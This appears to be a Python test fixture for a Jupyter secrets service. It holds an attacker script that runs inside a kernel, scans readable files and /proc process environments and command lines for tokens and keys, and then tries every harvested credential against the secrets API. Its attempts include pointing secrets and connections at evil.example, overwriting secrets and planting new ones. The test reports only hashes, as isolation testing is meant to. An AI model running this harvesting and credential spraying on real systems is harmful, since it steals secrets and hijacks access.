"""Code an attacker runs in a kernel: read everything its OS user can, try every credential.

Run inside a kernel, it prints one JSON line. It never learns the values it hunts for: it
reports SHA-256 digests of everything that *looks like* a canary, a master key or an admin
token, and the test compares them with the digests of the real ones. The JupyterHub test
runs the same script in a user's kernel.
"""

from __future__ import annotations

import textwrap

ATTACK = textwrap.dedent(r'''
    import glob, hashlib, json, os, re, stat
    import httpx

    API = os.environ["JUPYTER_SECRETS_URL"].rstrip("/")
    PATTERNS = {
        "canary": re.compile(rb"canary-[0-9a-f]{32}"),
        "key": re.compile(rb"[A-Za-z0-9_+/-]{43}=?"),
        "hex": re.compile(rb"[0-9a-f]{64}"),
    }
    ISSUED = re.compile(rb"(?:jss|jsk|jsr)_[A-Za-z0-9_-]{20,}")
    HEX = re.compile(rb"\b[0-9a-f]{48,64}\b")
    HOME = os.path.expanduser("~")
    MINE = [HOME, "/tmp", "/var/tmp", "/dev/shm"] + [
        v for k, v in os.environ.items() if k.startswith("JUPYTER") and os.path.isdir(v)]
    found = {name: set() for name in PATTERNS}
    credentials = set()
    scanned = {"files": 0, "bytes": 0, "environs": 0, "cmdlines": 0}

    def scan(data: bytes, mine: bool = True) -> None:
        for name, pattern in PATTERNS.items():
            for match in pattern.findall(data):
                found[name].add(hashlib.sha256(match).hexdigest())
        # Issued tokens anywhere; long hex tokens (Jupyter's, an admin token) where this
        # user keeps things, not in system files full of hashes.
        for pattern in (ISSUED, HEX) if mine else (ISSUED,):
            for match in pattern.findall(data):
                credentials.add(match.decode())

    roots = {HOME, "/tmp", "/var/tmp", "/dev/shm", "/home", "/etc", "/opt", "/srv", "/run"}
    roots |= {v for k, v in os.environ.items() if k.startswith("JUPYTER") and os.path.isdir(v)}
    for root in sorted(roots):
        for dirpath, dirnames, filenames in os.walk(root, onerror=lambda e: None):
            dirnames[:] = [d for d in dirnames if d not in ("site-packages", "node_modules")]
            for filename in filenames:
                path = os.path.join(dirpath, filename)
                try:
                    if not stat.S_ISREG(os.lstat(path).st_mode) or os.path.getsize(path) > 4e6:
                        continue
                    with open(path, "rb") as handle:
                        data = handle.read()
                except OSError:
                    continue
                scanned["files"] += 1
                scanned["bytes"] += len(data)
                scan(data, mine=any(path.startswith(m + "/") for m in MINE))

    for proc in glob.glob("/proc/[0-9]*"):
        for part, counter in (("environ", "environs"), ("cmdline", "cmdlines")):
            try:
                with open(os.path.join(proc, part), "rb") as handle:
                    data = handle.read()
            except OSError:
                continue
            scanned[counter] += 1
            scan(data.replace(b"\0", b"\n"))
            for entry in data.split(b"\0"):
                _, _, value = entry.partition(b"=")
                if value and len(value) >= 20 and b" " not in value and b"/" not in value:
                    credentials.add(value.decode("utf-8", "replace"))

    for info in glob.glob(os.path.join(os.environ.get("JUPYTER_RUNTIME_DIR", "/nonexistent"),
                                       "jpserver-*.json")):
        with open(info) as handle:
            credentials.add(json.load(handle).get("token", ""))
    credentials.add(os.environ["JUPYTER_SECRETS_TOKEN"])
    credentials.discard("")

    ATTEMPTS = [
        ("PATCH", "secrets/CANARY", {"allowed_hosts": ["evil.example"]}),
        ("PATCH", "secrets/CANARY", {"placements": ["body"]}),
        ("PUT", "secrets/CANARY", {"value": "attacker-chosen-1"}),
        ("DELETE", "secrets/CANARY", None),
        ("POST", "secrets", {"name": "PLANTED", "value": "attacker-chosen-1"}),
        ("POST", "connections", {"name": "evil", "base_url": "https://evil.example",
                                 "secret": "CANARY"}),
        ("PATCH", "connections/up", {"base_url": "https://evil.example"}),
        ("GET", "audit", None),
    ]
    outcomes = {}
    with httpx.Client(timeout=20, trust_env=False) as client:
        for credential in sorted(credentials):
            for scheme in ("token", "Bearer"):
                for method, path, body in ATTEMPTS:
                    try:
                        r = client.request(method, f"{API}/{path}", json=body,
                                           headers={"Authorization": f"{scheme} {credential}"})
                        status = r.status_code
                    except httpx.HTTPError:
                        status = 0
                    outcomes.setdefault(f"{method} {path}", set()).add(status)

    import jupyter_secrets as js
    call = js.connection("up").get("/echo/by-name")
    print(json.dumps({
        "found": {k: sorted(v) for k, v in found.items()},
        "credential_kinds": sorted({c[:4] if c[:4] in ("jss_", "jsk_", "jsr_") else "other"
                                    for c in credentials}),
        "credentials_tried": len(credentials),
        "outcomes": {k: sorted(v) for k, v in outcomes.items()},
        "call_status": call.status_code,
        "call_scrubbed": "[REDACTED:UP_CONNECTION_KEY]" in call.text,
        "names": js.names(),
        "scanned": scanned,
    }))
''')


def digest(value: str) -> str:
    import hashlib

    return hashlib.sha256(value.encode()).hexdigest()
